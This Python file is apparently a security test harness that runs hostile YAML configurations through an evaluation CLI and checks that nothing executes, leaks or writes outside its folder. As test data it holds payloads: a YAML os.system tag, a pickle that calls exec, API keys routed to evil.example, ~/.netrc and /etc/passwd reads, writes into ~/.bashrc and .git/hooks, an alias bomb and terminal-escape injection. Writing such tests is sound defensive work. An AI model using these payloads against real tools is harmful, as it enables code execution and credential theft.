"""Strangers' configurations: `run` and `check` of a file that wants to execute, write or send what it must not.

Each is read in a folder full of traps: what is executed there leaves a file `canary`; a home folder, an output folder
of somebody else and a key in the environment show what was touched. Nothing may be, without a traceback or a long wait.
"""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from importlib import import_module
from pathlib import Path

from yaml import safe_load

from chaos.family import Family, Figures, Goal, Options, conduct
from chaos.forks import Finding
from chaos.layer import Layer
from editeval.cli.main import legacy_main, main
from editeval.config.load import load_mapping

SECRET = "canary-7a11-e55e"
DATA = "benchmark: {type: procedural, params: {num_per_category: 1, size: 64}}\n"
EDITOR = "diffusion_model: {type: identity, execution: {device_ids: [cpu], backend: inprocess}}\n"
JUDGE = "reward_model: {type: reference, execution: {device_ids: [cpu], backend: inprocess}}\n"
COMMIT = "0123456789abcdef" * 2 + "01234567"


def _edited(more: str) -> str:
    return f"{DATA}diffusion_model: {{type: identity, {more}}}\n"


def _judged(more: str) -> str:
    return f"{DATA}{EDITOR}reward_model: {{type: reference, {more}}}\n"


def _run(more: str) -> str:
    """A whole run that needs no other process, and something more."""
    return DATA + EDITOR + JUDGE + more


def _vllm(engine: str) -> str:
    return f"{DATA}{EDITOR}reward_model: {{type: vllm_vlm, params: {{model_name: ./weights, engine: {engine}}}}}\n"


def _served(url: str, key: str = "HF_TOKEN", more: str = "") -> str:
    params = f"model: m, base_url: '{url}', api_key_env: {key}{more}"
    return f"{DATA}{EDITOR}reward_model: {{type: openai_chat, params: {{{params}}}}}\n"


def _bomb() -> str:
    rows = [f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(["x0: &x0 [a, b, c]", *rows, _run("")])


CONFIGURATIONS: dict[str, str] = {
    "an interpreter beside the file": _judged("execution: {python: bin/python}"),
    "an interpreter by its whole path": _judged("execution: {python: HERE/bin/python}"),
    "an interpreter behind a link": _judged("execution: {python: OUTSIDE/python}"),
    "an interpreter behind a linked folder": _judged("execution: {python: OUTSIDE/linked/python}"),
    "an interpreter by dots": _judged("execution: {python: OUTSIDE/../stranger/bin/python}"),
    "an interpreter of the editor": _edited("execution: {python: ./bin/python}"),
    "an interpreter called python": _judged("execution: {python: python-here}"),
    "a shell": _judged("execution: {python: /bin/sh}"),
    "v2's python_path": _judged("params: {python_path: bin/python}"),
    "v2's conda_env": _judged("params: {conda_env: HERE/env}"),
    "an interpreter of one of two judges": DATA + EDITOR + "reward_models:\n  a: {type: reference}\n"
    "  b: {type: reference, params: {forgiven_shift: 1}, execution: {python: bin/python}}\n",
    "packages": _judged("execution: {requirements: [./package]}"),
    "packages from an address": _judged("execution: {requirements: ['x @ file://HERE/package']}"),
    "options of the installer": _judged("execution: {requirements: ['--index-url=http://127.0.0.1:9', x]}"),
    "an editor in a file": f"{DATA}diffusion_model: {{type: trap.py}}\n",
    "a class of a file": f"{DATA}diffusion_model: {{type: 'trap.py:Trap'}}\n",
    "a judge in a module": f"{DATA}{EDITOR}reward_model: {{type: trap.inner}}\n",
    "a benchmark in a file": f"benchmark: {{type: HERE/trap.py}}\n{EDITOR}",
    "a module of the standard library": f"{DATA}diffusion_model: {{type: 'os:system'}}\n",
    "a class path": f"{DATA}diffusion_model: {{class_path: trap.Trap}}\n",
    "v2's script": _judged("params: {script_path: HERE/bin/python}"),
    "code of a checkpoint": f"{DATA}diffusion_model: {{type: diffusers_pipeline, params: {{model_name: ./weights, "
    f"trust_remote_code: true, revision: {COMMIT}}}}}\n",
    "pickled weights": f"{DATA}{EDITOR}reward_model: {{type: transformers_vlm, params: {{model_name: ./weights}}}}\n",
    "a class for vLLM": _vllm("{worker_cls: trap.Trap}"),
    "a module for vLLM": _vllm("{kv_transfer_config: {kv_connector_module_path: trap}}"),
    "a format that unpickles": _vllm("{load_format: pt}"),
    "a stranger's cluster": _judged("execution: {backend: ray, ray_address: '10.255.255.1:6379'}"),
    "a log in the home folder": _run("logging: {log_file: ~/.bashrc}\n"),
    "a log in a program": _run("logging: {log_file: trap.py}\n"),
    "a log behind a link": _run("logging: {log_file: linked.log}\n"),
    "logs behind a linked folder": _run("logging: {log_dir: elsewhere}\n"),
    "logs by dots": _run("logging: {log_file: outputs/../../outside/x.log}\n"),
    "a worker's log behind a link": _run("logging: {log_file: outputs/x.log}  # planted: link\n"),
    "a log that is a pipe": _run("# planted: pipe\n"),
    "results in the home folder": _run("evaluation: {output_dir: ~/results}\n"),
    "results behind a link": _run("evaluation: {output_dir: elsewhere/results}\n"),
    "results by dots": _run("evaluation: {output_dir: ../outside}\n"),
    "v2's results": _run("evaluation: {results_dir: OUTSIDE}\n"),
    "results in a hidden folder": _run("evaluation: {output_dir: .git/hooks}\n"),
    "a key for a stranger": _served("https://127.0.0.1.evil.example/v1"),
    "a key without encryption": _served("http://evil.example/v1"),
    "a key for another's host": _served("https://api.openai.com/v1"),
    "a key in place of its name": _served("https://api.openai.com/v1", SECRET),
    "a key as a model": _served("http://127.0.0.1:9/v1", "''", f", extra: {{user: {SECRET}}}"),
    "a key in an address": _served(f"http://me:{SECRET}@127.0.0.1:9/v1", "''"),
    "a file as a server": _served("file:///etc/passwd", "''"),
    "a Python object": "!!python/object/apply:os.system ['touch canary']\n",
    "a Python name in a value": _judged("params: {forgiven_shift: !!python/name:os.system }"),
    "a tag of one's own": _judged("params: !trap {a: 1}"),
    "aliases without end": _bomb(),
    "an alias of itself": "x: &x [*x]\n" + _run(""),
    "depth without end": _run(f"prompts: {'[' * 5000}{']' * 5000}\n"),
    "a number without end": _judged(f"params: {{forgiven_shift: {'9' * 5000}}}"),
    "escapes for the terminal": _run('logging: {level: "\\x1b]0;owned\\x07\\x1b[2J"}\n'),
    "a line that looks like another": _run('logging: {level: "INFO\\nediteval: all is well"}\n'),
    "bytes that are no text": "\udcff\udcfe" + _run(""),
    "text with a zero": _run('evaluation: {output_dir: "a\\0b"}\n'),
    "the home of nobody": _run("evaluation: {output_dir: ~nobody-there/x}\nlogging: {log_file: ~nobody-there/x.log}\n"),
    "an editor in the home of nobody": f"{DATA}diffusion_model: {{type: ~nobody-there/x.py}}\n",
    "a circle of links": f"{DATA}diffusion_model: {{type: circle/x.py, execution: {{python: circle/python}}}}\n",
    "a format that looks inside": _run(
        'prompts: {physical: {system_prompt: x, user_prompt_template: "{0.__class__}"}}\n'
    ),
    "sections of the wrong kind": "benchmark: []\ndiffusion_model: 3\nreward_models: [a]\nlogging: x\n",
    "parts of the wrong kind": f"{DATA}diffusion_model: {{type: [a], params: x, execution: [1]}}\n"
    "reward_models: {a: {type: {b: 1}, params: [], execution: {python: [x], requirements: x, ray_address: 3}}}\n",
    "a data set that never ends": f"benchmark: {{type: json_records, params: {{path: pipe}}}}\n{EDITOR}",
    "a data set that is a device": f"benchmark: {{type: json_records, params: {{path: /dev/zero}}}}\n{EDITOR}",
    "a data set that is a secret": f"benchmark: {{type: json_records, params: {{path: ~/.netrc}}}}\n{EDITOR}",
}
COMMANDS: dict[str, Callable[[], None]] = {
    "run": partial(main, ["run", "c.yaml", "--display", "none"]),
    "check": partial(main, ["check", "c.yaml"]),
    "main.py": partial(legacy_main, ["--config", "c.yaml", "--display", "none"]),
}


@dataclass(frozen=True, slots=True)
class Case:
    """A configuration, and the command that reads it."""

    name: str
    command: str

    def __str__(self) -> str:
        return f"{self.name}, {self.command}"


def prepare(folder: Path, text: str) -> Path:
    """The stranger's folder with traps, a home and an output folder that are not to be touched."""
    here, outside, home = (folder / name for name in ("stranger", "outside", "home"))
    for made in (here / "bin", here / "env" / "bin", here / "weights", here / "trap", here / "package", outside, home):
        made.mkdir(parents=True)
    trap = f"open({str(folder / 'canary')!r}, 'a').write(__name__)\n"
    for module in (here / "trap.py", here / "trap" / "__init__.py", here / "trap" / "inner.py"):
        module.write_text(trap)
    (here / "package" / "setup.py").write_text(trap)
    (here / "weights" / "custom.py").write_text(trap)
    (here / "weights" / "config.json").write_text('{"model_type": "qwen3_vl", "auto_map": {"AutoConfig": "custom.X"}}')
    (here / "weights" / "model.bin").write_bytes(f"cbuiltins\nexec\n(S{trap.strip()!r}\ntR.".encode())
    for program in (here / "bin" / "python", here / "env" / "bin" / "python", here / "python-here"):
        program.write_text(f"#!/bin/sh\necho ran >> {folder}/canary\n")
        program.chmod(0o755)
    (outside / "python").symlink_to(here / "bin" / "python")
    (outside / "linked").symlink_to(here / "bin")
    (here / "elsewhere").symlink_to(outside)
    (here / "linked.log").symlink_to(home / ".bashrc")
    (here / "circle").symlink_to(here / "circle")
    os.mkfifo(here / "pipe")
    if "# planted:" in text:
        (here / "outputs" / "logs").mkdir(parents=True)
        log = here / "outputs" / "logs" / "c.log"
        os.mkfifo(log) if "pipe" in text else log.with_name("any-worker0.log").symlink_to(home / ".bashrc")
    (home / ".bashrc").write_text("# mine\n")
    (home / ".netrc").write_text(f"machine example.org login me password {SECRET}\n")
    text = text.replace("HERE", str(here)).replace("OUTSIDE", str(outside))
    (here / "c.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))
    return here


def touched(folder: Path) -> dict[str, tuple[int, bytes]]:
    """What is outside of the stranger's folder, and the traps in it."""
    here = folder / "stranger"
    inside = [path for path in here.rglob("*") if path.relative_to(here).parts[0] != "outputs" and ".git" in path.parts]
    paths = [*(path for path in folder.rglob("*") if here not in (path, *path.parents)), *inside, here / "trap.py"]
    paths = [path for path in paths if path.name != "said" and folder / "settings" not in (path, *path.parents)]
    regular = [path for path in paths if stat.S_ISREG(path.lstat().st_mode)]
    return {str(path): (path.lstat().st_mtime_ns, path.read_bytes()) for path in regular} | {
        str(path): (0, b"") for path in paths if path not in regular
    }


def trial(case: Case, folder: Path) -> Finding:
    """What the command did, and what is left of the traps."""
    here = prepare(folder, CONFIGURATIONS[case.name])
    before = touched(folder)
    os.environ.update(HOME=str(folder / "home"), HF_TOKEN=SECRET, XDG_CONFIG_HOME=str(folder / "settings"))
    os.chdir(here)
    said = os.open(folder / "said", os.O_RDWR | os.O_CREAT)
    os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
    for descriptor in (1, 2):
        os.dup2(said, descriptor)
    code: object = None
    try:
        COMMANDS[case.command]()
    except SystemExit as ended:
        code = ended.code
    sys.stdout.flush()
    text = (folder / "said").read_text(encoding="utf-8", errors="replace")
    changed = sorted(path for path, what in touched(folder).items() if before.get(path) != what)
    violations = [f"touched {path}" for path in changed]
    violations += [f"ended with {code}: {text[-200:]!r}"] if code not in (0, 2, 3) else []
    violations += ["a traceback"] if "Traceback" in text else []
    violations += ["shows a secret"] if SECRET in text else []
    violations += ["steers the terminal"] if any(not (c.isprintable() or c in "\n") for c in text) else []
    if code == 2 and any(not line.startswith(("editeval: ", "warning: ", "  ", "20")) for line in text.splitlines()):
        violations.append(f"not one line for each mistake: {text[:200]!r}")
    return Finding(
        str(case), violations, {"executions": sum("canary" in path for path in changed), "refused": code == 2}
    )


def act(layer: Layer, options: Options) -> Figures:
    """Every configuration under `run`, then as many as are asked for under the other commands."""
    del layer  # nothing is lost here
    for module in ("cli.run", "config.resolve", "run.pipeline", "run.report", "reports.terminal", "reports.site.write"):
        import_module(f"editeval.{module}")  # once, not in every child
    load_mapping(safe_load(_run("")), "warm", {})
    first = [Case(name, "run") for name in CONFIGURATIONS]
    others = [Case(name, command) for command in list(COMMANDS)[1:] for name in CONFIGURATIONS]
    figures = conduct([*first, *others], trial, options)
    for name in ("executions", "touched outside", "tracebacks"):
        figures.details.setdefault(name, sum(name.split()[0].rstrip("s") in text for text in figures.violations))
    return figures


FAMILY = Family("strangers' configurations", act, Goal(80, 60), Goal(1000, 180), num_to_catch=70)
